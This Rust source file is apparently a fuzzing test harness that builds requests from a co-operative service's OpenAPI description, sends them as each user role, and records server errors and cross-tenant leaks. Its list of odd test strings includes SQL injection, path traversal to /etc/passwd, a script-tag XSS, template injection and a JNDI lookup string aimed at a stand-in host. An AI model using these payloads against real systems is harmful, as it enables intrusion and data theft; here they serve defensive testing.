//! Requests generated from the description of the interface, with odd values in every place.

use super::{Marks, enter};
use crate::random::Rng;
use crate::{Client, World};
use serde_json::{Map, Value as Json, json};
use std::collections::BTreeMap;
use std::time::{Duration, Instant};
use traybook_domain::people::authz::Role;
use traybook_http::openapi;

/// Not generated: they end the sign-ins of the run, or make it wait for others' wrong ones. Each has
/// tests of its own.
const LEFT_OUT: [&str; 6] = [
    "sign_out",
    "sign_in",
    "accept_invitation",
    "withdraw_person",
    "correct_person",
    "erase_member",
];

/// What was found.
#[derive(Debug, Default)]
pub struct Found {
    /// Requests by class of answer: 2 for 2xx.
    pub by_class: BTreeMap<u16, u64>,
    /// Operations that were asked.
    pub operations: usize,
    /// What must not be: who asked what, and the answer.
    pub wrong: Vec<String>,
}

impl Found {
    /// Requests in all.
    pub fn requests(&self) -> u64 {
        self.by_class.values().sum()
    }
}

/// Strings that break what is not careful: length, signs, other kinds of value.
const TEXTS: [&str; 22] = [
    "",
    " ",
    "\u{0}",
    "'; DROP TABLE people; --",
    "\" OR 1=1 --",
    "%00",
    "../../etc/passwd",
    "=1+1",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://elsewhere.example}",
    "\u{202e}abc",
    "\u{feff}",
    "👩‍🌾",
    "İ",
    "9999-12-31",
    "0000-00-00",
    "2026-02-30",
    "1e309",
    "NaN",
    "-0",
    "99999999999999999999999999",
];

struct Generator<'a> {
    rng: Rng,
    document: &'a Json,
    ids: Vec<String>,
    /// Ids that lists have shown, by the list's part of the address.
    shown: BTreeMap<String, Vec<String>>,
    /// How often a value of this request is odd.
    oddness: f64,
}

impl Generator<'_> {
    fn one<'t, T>(&mut self, of: &'t [T]) -> &'t T {
        &of[self.rng.below(of.len())]
    }

    fn text(&mut self) -> String {
        match self.rng.below(24) {
            0 => "a".repeat(5_000),
            1 => self.one(&self.ids.clone()).clone(),
            _ => (*self.one(&TEXTS)).to_owned(),
        }
    }

    fn odd(&mut self) -> Json {
        match self.rng.below(12) {
            0 => Json::Null,
            1 => json!(true),
            2 => json!(-1),
            3 => json!(i64::MAX),
            4 => json!(1e300),
            5 => json!(0.1),
            6 => json!([]),
            7 => json!({}),
            8 => json!([[[[[{ "a": [null] }]]]]]),
            _ => json!(self.text()),
        }
    }

    /// A UUIDv7 (RFC 9562, 5.7) that nothing has.
    fn new_id(&mut self) -> String {
        let mut random = [0_u8; 10];
        random.iter_mut().for_each(|b| *b = u8::try_from(self.rng.below(256)).unwrap_or(0));
        uuid::Builder::from_unix_timestamp_millis(1_773_990_000_000, &random)
            .into_uuid()
            .to_string()
    }

    /// The schema that a reference leads to.
    fn resolved<'s>(&'s self, schema: &'s Json) -> &'s Json {
        let to = schema["$ref"].as_str().and_then(|to| to.strip_prefix('#'));
        to.and_then(|to| self.document.pointer(to)).unwrap_or(schema)
    }

    /// A value that fits a schema mostly.
    fn value(&mut self, schema: &Json, depth: usize) -> Json {
        if depth > 6 || self.rng.chance(self.oddness) {
            return self.odd();
        }
        let schema = self.resolved(schema).clone();
        for several in ["oneOf", "anyOf", "allOf"] {
            if let Some(all) = schema[several].as_array().filter(|all| !all.is_empty()) {
                let chosen = self.one(all).clone();
                return self.value(&chosen, depth + 1);
            }
        }
        if let Some(all) = schema["enum"].as_array() {
            return self.one(all).clone();
        }
        let kind = match &schema["type"] {
            Json::Array(all) => self.one(all).as_str().unwrap_or("null").to_owned(),
            kind => kind.as_str().unwrap_or("object").to_owned(),
        };
        match (kind.as_str(), schema["format"].as_str()) {
            ("string", Some("uuid")) => json!(self.one(&self.ids.clone())),
            ("string", Some("date")) => json!(format!("2026-03-{:02}", self.rng.int(1, 28))),
            ("string", Some("date-time")) => json!("2026-03-18T06:30:00.000Z"),
            ("string", _) => json!(format!("n{}", self.rng.below(100_000))),
            ("integer", _) => json!(self.rng.int(0, 40)),
            ("number", _) => json!(self.rng.int(0, 400) as f64 / 10.0),
            ("boolean", _) => json!(self.rng.chance(0.5)),
            ("array", _) => {
                let n = self.rng.below(3);
                (0..n).map(|_| self.value(&schema["items"], depth + 1)).collect()
            }
            ("null", _) => Json::Null,
            _ => self.object(&schema, depth),
        }
    }

    fn object(&mut self, schema: &Json, depth: usize) -> Json {
        let mut map = Map::new();
        let required = schema["required"].as_array().cloned().unwrap_or_default();
        for (name, of) in schema["properties"].as_object().into_iter().flatten() {
            let is_required = required.iter().any(|r| r == name);
            let often = if self.oddness > 0.1 { 0.95 } else { 1.0 };
            if self.rng.chance(if is_required { often } else { 0.4 }) {
                // A new record may have any id: one that another co-operative has shows nothing.
                let value = match name == "id" {
                    true => json!(self.new_id()),
                    false => self.value(of, depth + 1),
                };
                map.insert(name.clone(), value);
            }
        }
        if self.rng.chance(self.oddness / 3.0) {
            map.insert(self.text(), self.odd());
        }
        Json::Object(map)
    }

    fn body(&mut self, operation: &Json) -> Option<(String, Vec<u8>)> {
        let content = operation["requestBody"]["content"].as_object()?.clone();
        let (media, of) = content.iter().nth(self.rng.below(content.len()))?;
        let is_odd = self.rng.chance(self.oddness);
        let bytes = match if is_odd { self.rng.below(5) } else { 5 } {
            0 => b"{\"a\":".to_vec(),
            1 => "[".repeat(20_000).into_bytes(),
            2 => vec![0xff, 0xfe, 0x00],
            3 => Vec::new(),
            _ => self.value(&of["schema"], 0).to_string().into_bytes(),
        };
        let media = if self.rng.chance(self.oddness / 3.0) {
            "text/plain".to_owned()
        } else {
            media.clone()
        };
        Some((media, bytes))
    }

    fn path(&mut self, template: &str, operation: &Json) -> String {
        let mut path = String::new();
        for part in template.split('/').skip(1) {
            path.push('/');
            if part.starts_with('{') {
                let list = template.split('/').nth(2).unwrap_or_default();
                let shown = self.shown.get(list).filter(|all| !all.is_empty()).cloned();
                let known = if self.rng.chance(0.8) { shown } else { None };
                let id = match known {
                    _ if self.rng.chance(self.oddness) => self.text(),
                    Some(shown) => self.one(&shown).clone(),
                    None => self.one(&self.ids.clone()).clone(),
                };
                path.push_str(&escaped(&id));
            } else {
                path.push_str(part);
            }
        }
        let mut mark = '?';
        for param in operation["parameters"].as_array().into_iter().flatten() {
            let seldom = if self.oddness > 0.1 { 0.6 } else { 0.85 };
            if param["in"] != "query" || self.rng.chance(seldom) {
                continue;
            }
            let value = self.value(&param["schema"], 0);
            let text = value.as_str().map_or_else(|| value.to_string(), str::to_owned);
            let name = param["name"].as_str().unwrap_or_default();
            path.push_str(&format!("{mark}{name}={}", escaped(&text)));
            mark = '&';
        }
        path
    }
}

/// Percent-encoding (RFC 3986, 2.1) of everything but letters, digits and `-`.
fn escaped(text: &str) -> String {
    let one = |b: u8| match b {
        b'-' | b'0'..=b'9' | b'a'..=b'z' | b'A'..=b'Z' => char::from(b).to_string(),
        _ => format!("%{b:02X}"),
    };
    text.bytes().map(one).collect()
}

/// Sends generated requests as every role: so many, or as long as there is time.
pub fn run(w: &World, marks: &Marks, (seed, most): (u64, u64), time: Duration) -> Found {
    let document: Json = serde_json::from_str(&openapi::text().expect("a document")).expect("JSON");
    let mut ids: Vec<String> = w.a.ids.values().map(ToString::to_string).collect();
    ids.sort_unstable();
    ids.extend(marks.ids().cloned());
    ids.push("01960000-0000-7000-8000-000000000001".to_owned());
    let (rng, shown) = (Rng::of(seed, 17, 0), BTreeMap::new());
    let mut generator = Generator { rng, document: &document, ids, shown, oddness: 0.0 };
    let paths = document["paths"].as_object().expect("paths");
    let operations: Vec<(&String, &String, &Json)> = paths
        .iter()
        .flat_map(|(path, all)| {
            all.as_object().into_iter().flatten().map(move |(m, o)| (path, m, o))
        })
        .filter(|(_, _, o)| !LEFT_OUT.contains(&o["operationId"].as_str().unwrap_or_default()))
        .collect();
    let client = |role: Role| enter(w, &format!("{}.a@coop.example", role.text()));
    let mut clients: Vec<(Role, Client)> =
        Role::ALL.into_iter().map(|role| (role, client(role))).collect();
    let mut found = Found { operations: operations.len(), ..Found::default() };
    let (begun, mut n) = (Instant::now(), 0);
    while found.requests() < most && begun.elapsed() < time && found.wrong.len() < 20 {
        let (template, method, operation) = operations[n % operations.len()];
        let at = (n / operations.len()) % clients.len();
        n += 1;
        generator.oddness = *generator.one(&[0.0, 0.03, 0.2]);
        let path = generator.path(template, operation);
        let body = generator.body(operation);
        let (tags, types) = match generator.oddness > 0.1 {
            true => (&["\"2\"", "*", "W/\"1\"", "1", "\"\""][..], &["*/*", "text/csv", "x/y"][..]),
            false => (&["\"1\""][..], &["application/json"][..]),
        };
        let (tag, accept) = ((*generator.one(tags)).to_owned(), (*generator.one(types)).to_owned());
        let headers = [("if-match", tag.as_str()), ("accept", accept.as_str())];
        let sent = body.as_ref().map(|(media, bytes)| (media.as_str(), bytes.clone()));
        let answer = clients[at].1.send(&method.to_uppercase(), &path, &headers, sent);
        *found.by_class.entry(answer.status / 100).or_default() += 1;
        let asked = body.map(|(_, b)| String::from_utf8_lossy(&b).into_owned()).unwrap_or_default();
        let role = clients[at].0;
        let mut wrong = |what: &str| {
            let text: String = answer.text.chars().take(400).collect();
            let asked: String = asked.chars().take(400).collect();
            let (role, status) = (role.text(), answer.status);
            found.wrong.push(format!("{what}: {role} {method} {path} {asked} -> {status} {text}"));
        };
        // 503 says that the database is busy, and when to come again.
        let is_busy = answer.status == 503 && answer.header("retry-after").is_some();
        if answer.status >= 500 && !is_busy {
            wrong("our fault");
        }
        if let Some(mark) = marks.seen(&format!("{path} {asked}"), &answer.text) {
            wrong(&format!("another co-operative's {mark}"));
        }
        if answer.status == 200 && !template.contains('{') {
            let items =
                answer.items().into_iter().filter_map(|i| Some(i["id"].as_str()?.to_owned()));
            let items: Vec<String> = items.take(20).collect();
            let list = template.split('/').nth(2).unwrap_or_default().to_owned();
            generator.shown.entry(list).or_insert(items);
        }
        if answer.status == 401 && operation["security"] != json!([]) {
            clients[at].1 = client(role);
        }
    }
    found
}
